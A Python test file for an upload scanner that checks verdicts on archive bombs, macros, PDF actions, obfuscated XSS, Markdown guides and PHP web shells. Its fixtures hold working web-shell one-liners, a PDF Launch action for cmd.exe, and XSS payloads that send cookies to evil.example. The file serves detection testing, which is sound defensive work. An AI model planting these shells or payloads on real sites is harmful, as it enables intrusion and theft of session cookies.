"""Containers, bombs, active content, markup obfuscation, card populations and operators' YARA rules.

Each test here is a regression test for an item of the issues "Honest customers are never suspended
by mistake" (upload items 8-10) and "Attacks that get through today" (upload items 1-5): every one of
them failed (a malicious file tagged clean, or an honest one judged a threat) before the fix.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import random
import zlib
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from aup.detectors.uploads import detectors
from aup.detectors.uploads.scanner import ScanEngine, ScanResult, ScanStatus
from aup.detectors.uploads.signatures import compile_rules, load_rules
from aup.detectors.uploads.verdict import Verdict, verdict
from aup.domain.models import Finding
from aup.policy import load_default_policy
from aup.policy.sections.uploads import UploadScanning
from tests.unit.uploads import samples

MD = "md"  # Markdown names are built: tests/unit/test_docs.py takes a written-out one for a file reference

POLICY = load_default_policy()
WHEN = datetime(2026, 11, 27, 10, 0, tzinfo=UTC)


def judge(
    data: bytes,
    name: str,
    settings: UploadScanning | None = None,
    rules: object = None,
    served_as: str | None = None,
) -> tuple[Verdict, ScanResult, list[Finding]]:
    engine = ScanEngine(
        settings or POLICY.upload_scanning, rules if rules is not None else compile_rules(), ("CIMCON",)
    )
    result = engine.scan(io.BytesIO(data), name, owner="acme", served_as=served_as)
    obj = detectors.UploadedObject("b", f"accounts/acme/{name}", "v1", "e", len(data), "acme", WHEN)
    findings = detectors.content_findings(obj, result, POLICY, {})
    return verdict(result.status, findings, POLICY), result, findings


def rules_of(findings: list[Finding]) -> set[str]:
    return {f.rule_id for f in findings}


# --- the matrix: no malicious combination ends clean --------------------------------------------------

EXPECTED = {
    "eicar": (Verdict.threat, "I3-malware-signature"),
    "cards": (Verdict.violation, "W2-bulk-personal-data"),
    "ssns": (Verdict.violation, "W2-bulk-personal-data"),
    "cards-utf16": (Verdict.violation, "W2-bulk-personal-data"),
    "ssns-utf16-no-bom": (Verdict.violation, "W2-bulk-personal-data"),
    "onerror-page": (Verdict.threat, "I3-script-in-document"),
    "pe-as-jpg": (Verdict.threat, "I3-disguised-executable"),
    "webshell": (Verdict.threat, "I3-malware-signature"),
}


@pytest.mark.parametrize("container", sorted(samples.CONTAINERS))
@pytest.mark.parametrize("payload", sorted(EXPECTED))
def test_matrix_no_malicious_combination_ends_clean(container: str, payload: str) -> None:
    inner_name, inner = samples.payloads()[payload]
    name, data = samples.CONTAINERS[container](inner_name, inner)
    got, result, findings = judge(data, name)
    assert got is not Verdict.clean, (container, payload, result.status, result.note)
    want, rule = EXPECTED[payload]
    if container == "broken-7z-in-gzip":  # nothing opens it: never clean, and says why
        assert result.status is ScanStatus.unsupported and "7z" in result.note
        assert got in {Verdict.not_scanned, want}
    else:
        assert result.status is ScanStatus.complete, result.note
        assert (got, rule in rules_of(findings)) == (want, True)


def test_every_container_of_an_honest_file_is_clean_and_complete() -> None:
    for container, wrap in samples.CONTAINERS.items():
        if container == "broken-7z-in-gzip":
            continue
        name, data = wrap("notes.txt", b"minutes of the weekly meeting\n" * 50)
        got, result, findings = judge(data, name)
        assert (got, result.status, findings) == (Verdict.clean, ScanStatus.complete, []), container


# --- item 9: ordinary archives are not bombs ------------------------------------------------------------


def test_backup_of_10001_small_files_is_scanned_not_a_bomb() -> None:
    data = samples.zip_bytes({f"home/{i // 100}/{i}.txt": b"n%d\n" % i for i in range(10_001)})
    got, result, findings = judge(data, "backup.zip")
    assert (got, result.status, findings) == (Verdict.clean, ScanStatus.complete, [])
    assert len(result.reports) == 10_002


def test_docx_in_zip_in_zip_and_ear_war_jar_are_clean() -> None:
    docx = samples.zip_bytes(
        {"[Content_Types].xml": b"<?xml version='1.0'?><Types/>", "word/document.xml": b"<w/>"}
    )
    got, result, _ = judge(samples.zip_bytes({"b.zip": samples.zip_bytes({"c.docx": docx})}), "a.zip")
    assert (got, result.status) == (Verdict.clean, ScanStatus.complete)
    jar = samples.zip_bytes(
        {"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "a/B.class": b"\xca\xfe\xba\xbe\0\0\0\x34"}
    )
    war = samples.zip_bytes({f"WEB-INF/lib/l{i}.jar": jar for i in range(5)})
    got, result, _ = judge(samples.zip_bytes({f"w{i}.war": war for i in range(3)}), "app.ear")
    assert (got, result.status) == (Verdict.clean, ScanStatus.complete)
    assert max(r.depth for r in result.reports) == 3


# --- item 2: bombs end fast as I3-archive-bomb ------------------------------------------------------------


def test_overlapping_entries_bomb_is_found_from_the_directory() -> None:
    data = samples.overlapping_zip_bomb()
    got, result, findings = judge(data, "small.zip")
    assert got is Verdict.threat and result.bomb is not None
    assert result.bomb.reason == "overlapping-members" and "I3-archive-bomb" in rules_of(findings)
    assert result.inflated_bytes == 0  # decided before inflating anything


def test_nested_bomb_stops_at_the_expansion_budget() -> None:
    data = samples.nested_zip_bomb()  # 6 KB that would expand to 8 GB
    got, result, _ = judge(data, "42.zip")
    assert got is Verdict.threat and result.bomb is not None and result.bomb.reason == "ratio"
    a = POLICY.upload_scanning.archives
    budget = max(a.ratio_min_bytes, a.max_ratio * len(data))
    assert result.inflated_bytes <= budget + POLICY.upload_scanning.streaming.chunk_bytes


def _sparse_disk_image(size: int = 64 << 20) -> bytes:
    """A freshly formatted disk image: a boot sector and a few metadata blocks, zeros elsewhere."""
    rng = random.Random(3)
    image = bytearray(size)
    image[:512] = rng.randbytes(446) + bytes(64) + b"\x55\xaa"
    for _ in range(8):
        at = rng.randrange(0, size - 4096) & ~4095
        image[at : at + 4096] = rng.randbytes(1024) * 4
    return bytes(image)


def _tar_gz(files: dict[str, bytes]) -> bytes:
    return samples.gzip_bytes(samples.tar_bytes(files))


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("vm/disk.img.xz", lambda: lzma.compress(_sparse_disk_image())),
        ("vm/disk.img.bz2", lambda: bz2.compress(_sparse_disk_image())),
        (
            "backups/pg.tar.gz",
            lambda: _tar_gz({"pg/wal/000001": bytes(32 << 20), "pg/pg.conf": b"port=5432\n"}),
        ),
        ("exports/zeros.zip", samples.zip_bomb),
    ],
)
def test_expansion_at_one_layer_is_read_to_its_end(name: str, data: Any) -> None:
    """An empty disk image under xz or bzip2, a preallocated (zero-filled) file in a tar.gz or a zip:
    past 1000:1, at one layer. Before, each was I3-archive-bomb at 0.95, which suspends the account.
    Now it is read on (within ``shallow_bomb_budget_bytes``): complete, and clean. With a budget it
    passes, it was not read to its end: held for review, never clean, never struck."""
    blob = data()
    got, result, findings = judge(blob, name)
    assert (got, result.status, result.bomb, findings) == (Verdict.clean, ScanStatus.complete, None, [])
    tight = UploadScanning(archives={"shallow_bomb_budget_bytes": 12 << 20})
    got, result, findings = judge(blob, name, tight)
    assert result.bomb is not None and result.bomb.detail["expanding_layers"] == 1
    (bomb,) = [f for f in findings if f.rule_id == "I3-archive-bomb"]
    assert bomb.confidence == POLICY.upload_scanning.archives.shallow_bomb_confidence
    assert bomb.confidence < POLICY.rule("I3-archive-bomb").confidence_bar
    assert (got, result.status) == (Verdict.review, ScanStatus.too_large)


@pytest.mark.parametrize(
    ("name", "data", "layers"),
    [
        ("42.zip", samples.nested_zip_bomb, 4),
        ("small-42.zip", lambda: samples.nested_zip_bomb(levels=2), 3),
    ],
)
def test_expansion_at_layer_after_layer_is_a_bomb(name: str, data: Any, layers: int) -> None:
    got, result, findings = judge(data(), name)
    assert result.bomb is not None and result.bomb.detail["expanding_layers"] == layers
    (bomb,) = [f for f in findings if f.rule_id == "I3-archive-bomb"]
    assert (got, bomb.confidence) == (Verdict.threat, 0.95)


def test_two_expanding_layers_are_a_review() -> None:
    """gzip over gzip, or a zip of a tar.gz of a zero-filled file: what an honest double compression of
    a sparse file also makes, so below ``bomb_min_layers`` (3): read on, then held and reviewed."""
    data = gzip.compress(gzip.compress(bytes(64 << 20)))
    got, result, _ = judge(
        data, "wal.gz.gz", UploadScanning(archives={"shallow_bomb_budget_bytes": 12 << 20})
    )
    assert result.bomb is not None and result.bomb.detail["expanding_layers"] == 2
    assert got is Verdict.review
    scanning = POLICY.upload_scanning
    archives = scanning.archives.model_copy(update={"bomb_min_layers": 2})
    strict = POLICY.model_copy(update={"upload_scanning": scanning.model_copy(update={"archives": archives})})
    engine = ScanEngine(strict.upload_scanning, compile_rules(), ())
    result = engine.scan(io.BytesIO(data), "wal.gz.gz", owner="acme")
    obj = detectors.UploadedObject("b", "accounts/acme/wal.gz.gz", "v1", "e", len(data), "acme", WHEN)
    (bomb,) = detectors.content_findings(obj, result, strict, {})
    assert bomb.confidence == 0.95


def test_a_compressed_layer_over_compressed_data_does_not_expand() -> None:
    """Honest nesting: a zip of a tar.gz of real (incompressible) data, a docx in a zip in a zip. Only
    the innermost compression expands, whatever the depth."""
    rng = random.Random(4)
    inner = _tar_gz({"data.bin": rng.randbytes(1 << 20), "notes.txt": b"monthly figures\n" * 4000})
    got, result, _ = judge(samples.zip_bytes({"backup.tar.gz": inner}), "backup.zip")
    assert (got, result.status, result.bomb) == (Verdict.clean, ScanStatus.complete, None)
    engine = ScanEngine(POLICY.upload_scanning, compile_rules(), ())
    engine.scan(io.BytesIO(samples.zip_bytes({"backup.tar.gz": inner})), "backup.zip")
    assert engine._open == [] and engine._packed == []  # the chain unwinds with the scan


def test_honest_expansion_beyond_the_absolute_budget_is_not_scanned_not_a_bomb() -> None:
    text = random.Random(1).randbytes(1 << 20).hex().encode()  # compresses about 2:1
    tight = UploadScanning(archives={"max_total_bytes": 1 << 20})
    got, result, findings = judge(samples.gzip_bytes(text), "export.csv.gz", tight)
    assert (got, result.status, result.bomb, findings) == (
        Verdict.not_scanned,
        ScanStatus.too_large,
        None,
        [],
    )


# --- item 1: a scan that stopped reading is never clean ----------------------------------------------------


def test_text_and_markup_past_their_limits_are_not_scanned() -> None:
    tiny = UploadScanning(personal_data={"text_limit_bytes": 100_000}, markup={"parse_limit_bytes": 50_000})
    got, result, _ = judge(b"hello world\n" * 20_000, "big.txt", tiny)
    assert (got, result.status) == (Verdict.not_scanned, ScanStatus.too_large)
    markup_only = UploadScanning(markup={"parse_limit_bytes": 50_000})
    got, result, _ = judge(b"<html><body>" + b"<p>hello</p>\n" * 10_000, "big.html", markup_only)
    assert (got, result.status) == (Verdict.not_scanned, ScanStatus.too_large)
    assert "markup" in result.note


def test_corrupt_zip_member_is_not_scanned() -> None:
    data = bytearray(samples.zip_bytes({"a.txt": b"payload " * 500}))
    at = data.find(b"payload") if b"payload" in data else 60
    data[at + 40 : at + 60] = b"\xff" * 20  # damage the deflate stream
    got, result, _ = judge(bytes(data), "broken.zip")
    assert got is Verdict.not_scanned and result.status is ScanStatus.unsupported


# --- item 3: active content -----------------------------------------------------------------------------

PDF_JS = b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj 2 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n%%EOF"
PDF_LAUNCH = b"%PDF-1.7\n1 0 obj << /OpenAction << /S /L#61unch /F (cmd.exe) >> >> endobj\n%%EOF"
OLE_VBA = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "_VBA_PROJECT".encode("utf-16-le") + b"\0" * 1000
)


def _pdf_objstm() -> bytes:
    body = zlib.compress(b"1 0 << /S /JavaScript /JS (app.alert(1)) >> 2 0 << /OpenAction 1 0 R >>")
    head = b"%PDF-1.7\n3 0 obj << /Type /ObjStm /Filter /FlateDecode /Length " + str(len(body)).encode()
    return head + b" >>\nstream\n" + body + b"\nendstream endobj\n%%EOF"


@pytest.mark.parametrize(
    "name,data,want,what",
    [
        ("a.pdf", PDF_JS, Verdict.review, {"javascript", "open-action"}),
        ("a.pdf", PDF_LAUNCH, Verdict.threat, {"launch", "open-action"}),
        ("a.pdf", _pdf_objstm(), Verdict.review, {"javascript", "open-action"}),
        ("a.doc", OLE_VBA, Verdict.review, {"vba-macros"}),
        (
            "a.docm",
            samples.zip_bytes({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": OLE_VBA}),
            Verdict.review,
            {"vba-macros"},
        ),
        (
            "a.xlsx",
            samples.zip_bytes({"xl/macrosheets/sheet1.xml": b"<xm/>"}),
            Verdict.review,
            {"xlm-macros"},
        ),
    ],
)
def test_active_content_is_never_clean(name: str, data: bytes, want: Verdict, what: set[str]) -> None:
    got, _, findings = judge(data, name)
    (f,) = findings
    assert f.rule_id == "I3-script-in-document" and set(f.evidence["active_content"]) >= what
    assert got is want


def test_plain_pdf_and_ole_are_clean() -> None:
    assert judge(samples.text_pdf(["Invoice 4471", "Consulting, 12 h"]), "a.pdf")[0] is Verdict.clean
    assert judge(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000, "a.doc")[0] is Verdict.clean


def test_a_pdf_whose_text_cannot_be_extracted_is_never_clean() -> None:
    """Its words were not read (no cross-reference table, so no pages): not clean, and it says why."""
    got, result, findings = judge(
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n%%EOF", "a.pdf"
    )
    assert findings == [] and got is Verdict.not_scanned
    assert result.status is ScanStatus.failed and "pdf text not extracted" in result.note


@pytest.mark.parametrize(
    "name,page",
    [
        ("a.html", b'<html><body><a href="jav&#x09;ascript:alert(1)">x</a></body></html>'),
        ("a.html", b'<html><body><a href="java\nscript:alert(1)">x</a></body></html>'),
        ("a.html", b'<html><body><a href="&#106;&#97;vascript:alert(1)">x</a></body></html>'),
        (
            "a.html",
            b'<html><body><iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe></body></html>',
        ),
        (
            "a.html",
            b'<html><head><meta http-equiv="refresh" content="0;url=javascript:alert(1)"></head></html>',
        ),
        (
            "a.xhtml",
            b'<?xml version="1.0"?><x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:img src="x" onerror="alert(1)"/></x:html>',
        ),
        (
            "a.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
        ),
        ("notes.txt", b'<img src=x onerror="alert(1)">'),
        ("notes", b'<img src=x onerror="alert(1)">'),
        ("notes.txt", b"plain words here\n" * 2000 + b'<img src=x onerror="alert(document.cookie)">'),
        (
            "notes.txt",
            utf16_page := samples.utf16(b'<html><body><img src=x onerror="alert(1)"></body></html>'),
        ),
    ],
)
def test_obfuscated_scripts_are_threats(name: str, page: bytes) -> None:
    got, _, findings = judge(page, name)
    assert got is Verdict.threat and rules_of(findings) == {"I3-script-in-document"}


def test_srcdoc_script_goes_to_review_and_plain_text_with_angle_brackets_is_clean() -> None:
    page = b'<html><body><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></body></html>'
    assert judge(page, "a.html")[0] is Verdict.review
    assert judge(b"if a < b and c > d then e\n" * 3000, "notes.txt")[0] is Verdict.clean


# --- item 8: numbers that pass a checksum by chance --------------------------------------------------------


def _ids(n: int, seed: int = 1) -> list[str]:
    rng = random.Random(seed)
    return [str(rng.randrange(10**15, 10**16)) for _ in range(n)]


def test_random_and_sequential_order_ids_are_not_cards() -> None:
    ids = ("order_id,amount\n" + "\n".join(f"{i},{n % 97}" for n, i in enumerate(_ids(20_000)))).encode()
    got, _, findings = judge(ids, "orders.csv")
    assert (got, findings) == (Verdict.clean, [])
    seq = ("gift card id,amount\n" + "\n".join(f"{4000000000000000 + i},1" for i in range(20_000))).encode()
    got, _, findings = judge(seq, "cards.csv")  # a card word in the header does not make ids cards
    assert (got, findings) == (Verdict.clean, [])


def test_real_cards_among_ids_are_still_bulk() -> None:
    ids = ("order_id,amount\n" + "\n".join(f"{i},1" for i in _ids(20_000))).encode()
    got, _, findings = judge(ids + b"\n" + samples.cards_csv(200), "mixed.csv")
    (f,) = findings
    assert got is Verdict.violation and f.rule_id == "W2-bulk-personal-data"
    assert 150 <= f.evidence["cards_beyond_chance"] <= 260


def test_chance_p_value() -> None:
    assert detectors.chance_p_value(4, 4) == pytest.approx(1e-4)
    assert detectors.chance_p_value(0, 10) == 1.0
    assert detectors.chance_p_value(250, 2500) > 0.4  # exactly the chance rate
    assert detectors.chance_p_value(400, 2500) < 1e-12


# --- item 4: operators' YARA rules as the community publishes them ------------------------------------------


def _rules_tree(root: Path) -> None:
    (root / "malware" / "php").mkdir(parents=True)
    (root / "common.yar").write_text('rule Marker { strings: $m = "ZZ-OPERATOR-MARKER" condition: $m }\n')
    (root / "malware" / "php" / "shell.yar").write_text(
        'include "../../common.yar"\nrule Marker_In_Php { condition: Marker and extension == "php" }\n'
    )
    (root / "malware" / "owned.yara").write_text(
        'rule Owner_Rule { strings: $o = "OWNER-ONLY" condition: $o and owner == "acme" and filetype == "text" }\n'
    )
    (root / "malware" / "uses_other.yar").write_text(
        "rule Cross_File { condition: Owner_Rule and filename matches /\\.txt$/ }\n"
    )
    (root / "broken.yar").write_text('rule Broken { strings: $a = "x" condition: $a and\n')


def test_operator_rules_nest_include_reference_and_use_externals(tmp_path: Path) -> None:
    _rules_tree(tmp_path / "rules")
    rules = load_rules(str(tmp_path / "rules"), cache_dir=str(tmp_path / "cache"))
    assert [name for name, _ in rules.rejected] == ["broken.yar"] and "broken.yar" in rules.rejected[0][1]
    assert rules.files == 4 and not rules.cached
    _, result, _ = judge(b"<?php echo 'ZZ-OPERATOR-MARKER'; ?>", "x.php", rules=rules.rules)
    assert {"Marker", "Marker_In_Php"} <= result.reports[0].signatures
    _, result, _ = judge(b"ZZ-OPERATOR-MARKER", "x.txt", rules=rules.rules)
    assert "Marker_In_Php" not in result.reports[0].signatures  # extension is set per object
    _, result, _ = judge(b"OWNER-ONLY notes", "notes.txt", rules=rules.rules)
    assert {"Owner_Rule", "Cross_File"} <= result.reports[0].signatures
    zipped = samples.zip_bytes({"in/notes.txt": b"OWNER-ONLY notes"})
    _, result, _ = judge(zipped, "bundle.zip", rules=rules.rules)
    assert "Cross_File" in result.reports[1].signatures  # externals are the member's, not the archive's
    again = load_rules(str(tmp_path / "rules"), cache_dir=str(tmp_path / "cache"))
    assert again.cached and again.rejected == rules.rejected
    assert "Owner_Rule" in {
        m.rule for m in again.rules.match(data=b"OWNER-ONLY", externals={"owner": "acme", "filetype": "text"})
    }


@pytest.mark.parametrize(
    "code,want",
    [
        (b"<?php system($_REQUEST['c']); ?>", Verdict.threat),
        (b"<?php @eval($_POST['x']); ?>", Verdict.threat),
        (b"<?php echo `ls $_GET['d']`; ?>", Verdict.threat),
        (b"<?php $_GET['f']($_GET['a']); ?>", Verdict.threat),
        (b"<?php include($_GET['page']); ?>", Verdict.review),  # also how vulnerable honest pages look
        (b"<?php echo htmlspecialchars($_GET['q']); exec('ls'); ?>", Verdict.clean),
    ],
)
def test_bundled_web_shell_rules(code: bytes, want: Verdict) -> None:
    assert judge(code, "x.php")[0] is want


def test_7z_bomb_encrypted_and_broken_7z() -> None:
    import py7zr

    zeros = samples.seven_zip({"zeros.bin": b"\0" * (64 << 20)})
    got, result, _ = judge(zeros, "data.7z")
    assert (got, result.status, result.bomb) == (Verdict.clean, ScanStatus.complete, None)
    got, result, findings = judge(
        zeros, "data.7z", UploadScanning(archives={"shallow_bomb_budget_bytes": 12 << 20})
    )
    assert got is Verdict.review and result.bomb is not None and result.bomb.reason == "ratio"
    assert result.bomb.detail["expanding_layers"] == 1  # one layer (test_expansion_at_one_layer_...)
    got, result, findings = judge(samples.seven_zip({"42.zip": samples.nested_zip_bomb()}), "data.7z")
    assert got is Verdict.threat and result.bomb is not None and result.bomb.detail["expanding_layers"] >= 3
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w", password="pw") as archive:
        archive.writestr(samples.EICAR, "eicar.com")
    got, result, findings = judge(buf.getvalue(), "vault.7z")
    assert (got, result.status, findings) == (Verdict.not_scanned, ScanStatus.encrypted, [])
    got, result, _ = judge(samples.broken_seven_zip(b"junk" * 10), "broken.7z")
    assert (got, result.status) == (Verdict.not_scanned, ScanStatus.unsupported)


def test_web_shell_in_an_image_comment_and_past_the_first_chunk() -> None:
    gif = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;<?php system($_GET['c']); ?>"
    assert judge(gif, "avatar.gif")[0] is Verdict.threat
    late = random.Random(2).randbytes(3 << 20) + b"<?php @eval($_POST['x']); ?>"
    assert judge(late, "blob.bin")[0] is Verdict.threat


# --- self-running handlers of a page's own shape ----------------------------------------------------

PAGE_SHAPED = [
    "init()",
    "resize(this)",
    "init(evt)",
    "App.start()",
    "gtag('event', 'page_loaded')",
    "document.getElementById('q').focus()",
    "this.onerror=null;this.src='/img/logo-fallback.png'",
    "this.onload=null;this.rel='stylesheet'",
    "this.src='https://cdn.example.com/logo.png'",
    "this.style.display='none'",
    "init(); return false",
    "loadCSS('/css/app.css')",
    "refresh();setInterval(refresh, 30000)",  # a timer handed a function by name
    "window.setTimeout(showBanner)",
    "javascript:initMenu();",  # the label old templates write
    "window.scrollTo(0, 0)",
    "this.style.height=this.contentWindow.document.body.scrollHeight+'px'",  # an iframe growing to fit
    "document.forms[0].submit()",  # a sign-on hand-off page posting its hidden fields
    "document.forms['sso'].submit()",
    "if(typeof init==='function')init()",  # a call guarded on the function being there
    "if (window.init) { init(); }",
    "window.app && app.start()",
    "typeof init == 'function' && init()",
    "if(!window.loaded)init()",
]
PAYLOADS = [
    "alert(1)",
    "alert(document.domain)",
    "prompt(1)",
    "\\u0061lert(1)",
    "a=alert,a(1)",
    "self['al'+'ert'](1)",
    "this.src='https://evil.example/?'+document.cookie",
    "$.getScript('//evil.example/x.js')",
    "loadScript('https://evil.example/x.js')",
    "import('//evil.example/x.js')",
    "eval(atob('YWxlcnQoMSk='))",
    "Function('alert(1)')()",
    "[].constructor.constructor('alert(1)')()",
    "setTimeout('alert(1)')",
    "setTimeout(alert, 0)",
    "setInterval('tick()', 1000)",
    "setTimeout(window.alert)",
    "window.print()",  # the XSS probe that replaced alert (a print view's body onload: below)
    "print()",
    "javascript:alert(1)",
    "window.open('//evil.example')",
    "window['al'+'ert'](1)",
    "window.location.assign('//evil.example')",
    "this.src='//evil.example/?'+document.domain",
    "top.location='https://evil.example'",
    "location.href='//evil.example'",
    "fetch('/account/export')",
    "this.innerHTML='<img src=x onerror=alert(1)>'",
    "this.src='data:text/html,<script>alert(1)</script>'",
    "document.write('<script src=//evil.example></script>')",
    "window.onerror=alert;throw 1",
    "init()//",
    "x=1",
    "init(" + "a," * 400 + "a)",  # past PAGE_HANDLER_MAX_CHARS
    "if(typeof init==='function')alert(1)",  # a guard is judged by what it guards
    "window.app && eval(app.code)",
    "if(x){location='//evil.example'}",
    "if(typeof x==='function')x();else alert(1)",
    "if(document.cookie)init()",  # a guard naming what a payload reads is kept, and judged
    "document['coo'+'kie']",
    "frames[0].location='//evil.example'",
    "document.forms[0].action='//evil.example'",
]


@pytest.mark.parametrize("code", PAGE_SHAPED)
def test_a_self_running_handler_of_a_pages_own_shape_is_a_review(code: str) -> None:
    """``<body onload="init()">``, an image's fallback, the ``rel=preload`` idiom: they run by themselves
    but do what a page does with its own elements. Before, each was a 0.9 exploit (I3-script-in-document,
    a temporary suspension); now a review, as a page's <script> and its controls' handlers are."""
    from aup.detectors.uploads.markup import page_handler

    assert page_handler(code)
    page = f'<html><head><title>Acme</title></head><body><img src="a.png" onload="{code}"></body></html>'
    got, _, findings = judge(page.encode(), "index.html")
    (f,) = findings
    assert (got, f.confidence, f.evidence["page_handlers"]) == (Verdict.review, 0.6, {"onload": 1})


@pytest.mark.parametrize("code", PAYLOADS)
def test_what_injected_markup_runs_stays_self_running(code: str) -> None:
    from aup.detectors.uploads.markup import page_handler

    assert not page_handler(code)


def test_a_print_view_printing_and_closing_itself_from_body_onload_is_a_review_not_a_probe() -> None:
    invoice = b'<html><body onload="window.print();window.close()"><h1>Invoice 1187</h1></body></html>'
    got, _, findings = judge(invoice, "invoice.html")
    (f,) = findings
    assert (got, f.confidence, f.evidence["page_handlers"]) == (Verdict.review, 0.6, {"onload": 1})
    for probe in (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="print()"/>',
        b"<img src=x onerror=print()>",
    ):
        got, _, findings = judge(probe, "probe.html")
        (f,) = findings
        assert (got, f.confidence) == (Verdict.threat, 0.9)


@pytest.mark.parametrize(
    "url",
    ["javascript:history.back()", "javascript:window.print()", "javascript: history.go(-1); void(0)",
     "javascript:openCart('blue')", "JavaScript:location.reload()"],
)  # fmt: skip
def test_a_link_whose_javascript_url_does_what_a_button_does_is_a_review(url: str) -> None:
    """``<a href="javascript:history.back()">Back</a>`` runs when clicked, as an onclick does. Before,
    it was a 0.9 javascript: URL (a strike)."""
    page = f'<html><body><a href="{url}">Back</a><area href="{url}"></body></html>'.encode()
    got, _, findings = judge(page, "order.html")
    (f,) = findings
    assert (got, f.confidence, f.evidence["interaction_handlers"], f.evidence["javascript_urls"]) == (
        Verdict.review,
        0.6,
        {"javascript-link": 2},
        0,
    )


@pytest.mark.parametrize(
    "markup",
    [
        '<a href="javascript:alert(document.domain)">x</a>',
        "<a href=\"javascript:void(0);fetch('//evil.example/?'+document.cookie)\">x</a>",
        "<a href=\"javascript:window.location='//evil.example'\">x</a>",
        '<iframe src="javascript:history.back()"></iframe>',  # runs by itself, not on a click
        '<form action="javascript:print()"><button>Go</button></form>',
    ],
)
def test_a_javascript_url_that_runs_a_payload_or_runs_by_itself_stays_a_threat(markup: str) -> None:
    got, _, findings = judge(f"<html><body>{markup}</body></html>".encode(), "x.html")
    assert got is Verdict.threat and [f.confidence for f in findings] == [0.9]


def test_a_legacy_site_with_onload_and_fallbacks_is_held_for_review_not_struck() -> None:
    page = (
        b'<!doctype html><html><head><title>Acme Tools</title><script src="/js/app.js"></script>'
        b'<link rel="preload" href="/css/app.css" as="style" onload="this.onload=null;this.rel=\'stylesheet\'">'
        b'</head><body onload="init()"><img src="/img/logo.png" onerror="this.src=\'/img/logo-fallback.png\'">'
        b'<iframe src="/embed/map" onload="resize(this)"></iframe></body></html>'
    )
    got, _, findings = judge(page, "index.html")
    (f,) = findings
    assert got is Verdict.review and f.confidence < POLICY.rule("I3-script-in-document").confidence_bar
    assert f.evidence["page_handlers"] == {"onload": 3, "onerror": 1}
    assert f.evidence["event_handlers"] == {}
    probe = page.replace(b"this.src='/img/logo-fallback.png'", b"alert(document.domain)")
    got, _, findings = judge(probe, "index.html")
    assert got is Verdict.threat and findings[0].evidence["event_handlers"] == {"onerror": 1}


# --- Markdown: code is shown, raw HTML is rendered ---------------------------------------------------

GUIDE = (
    b"# Preventing cross-site scripting\n\nAn attacker who controls a comment can submit:\n\n"
    b"```html\n<script>alert(document.cookie)</script>\n<img src=x onerror=alert(1)>\n```\n\n"
    b"~~~~\n<svg onload=alert(1)>\n~~~~\n\n"
    b'Or inline: `<a href="javascript:alert(1)">`, ``<body onload=alert(`x`)>``.\n'
)


@pytest.mark.parametrize(
    ("name", "served_as"),
    [
        (f"docs/xss.{MD}", "text/markdown"),
        ("README.markdown", "text/plain; charset=utf-8"),
        (f"docs/xss.{MD}", "binary/octet-stream"),  # S3's type when the uploader names none: downloaded
    ],
)
def test_payloads_a_markdown_guide_shows_as_code_are_no_finding(name: str, served_as: str) -> None:
    """A security guide's fenced blocks and code spans are printed, never run. Before, the .md was read
    as a page: ``I3-script-in-document`` at 0.9, a strike (a second such upload suspended)."""
    got, _, findings = judge(GUIDE, name, served_as=served_as)
    assert (got, findings) == (Verdict.clean, [])


@pytest.mark.parametrize(
    ("name", "served_as"),
    [
        ("notes.txt", "text/html"),  # a text served as a page
        ("notes.txt", None),
        ("notes", "text/plain"),  # no extension: a server or a browser may sniff it as a page
        (f"docs/xss.{MD}", "text/html"),  # a browser renders it: every fenced payload runs
        (f"docs/xss.{MD}", "application/xhtml+xml"),
        (f"docs/xss.{MD}", "image/svg+xml"),
        (f"docs/xss.{MD}", None),  # its type unknown: it may be rendered
    ],
)
def test_the_same_text_is_read_as_markup_unless_it_is_markdown_no_browser_renders(
    name: str, served_as: str | None
) -> None:
    got, _, findings = judge(GUIDE, name, served_as=served_as)
    assert got is Verdict.threat and rules_of(findings) == {"I3-script-in-document"}


def test_markup_in_a_text_no_browser_renders_as_a_page_runs_nothing() -> None:
    """An access log holds the probes its server was sent, from its first lines on (it sniffs as HTML).
    Named ``.log`` and stored as text/plain, or unpacked from a tar.gz by its name, it is shown as text.
    Before, each probe was a 0.9 self-running handler: two such uploads suspended the account."""
    log = b"".join(
        b'198.51.100.%d - - [01/Dec/2026:10:00:00 +0000] "GET %s HTTP/1.1" 404 0 "-" "Mozilla/5.0"\n'
        % (i % 250 + 1, b"/?s=<img src=x onerror=alert(1)>" if i % 100 == 7 else b"/products/%d" % i)
        for i in range(1000)
    )
    assert judge(log, "logs/access.log", served_as="text/plain")[0] is Verdict.clean
    assert judge(GUIDE, "notes.txt", served_as="text/plain")[0] is Verdict.clean
    rotated = gzip.compress(samples.tar_bytes({"web/access.log.1": log, "web/access.log.2026-11-30": log}))
    assert judge(rotated, "logs.tar.gz", served_as="application/gzip")[0] is Verdict.clean
    # the same lines as a page: named .html in the archive, or the log itself stored as text/html
    paged = gzip.compress(samples.tar_bytes({"web/access.log.1": log, "web/report.html": log}))
    got, _, findings = judge(paged, "logs.tar.gz", served_as="application/gzip")
    assert got is Verdict.threat and [f.evidence["where"] for f in findings] == [
        ["logs.tar.gz!/logs.tar!/web/report.html"]
    ]
    assert judge(log, "logs/access.log", served_as="text/html")[0] is Verdict.threat


def test_a_markdown_member_of_an_archive_is_read_as_markdown() -> None:
    """Unpacked, a member is served by its name: a docs bundle's guide is code, its raw page is not."""
    bundle = samples.zip_bytes({f"docs/xss.{MD}": GUIDE, f"docs/raw.{MD}": RAW_IN_MARKDOWN["an HTML block"]})
    got, _, findings = judge(bundle, "docs.zip", served_as="application/zip")
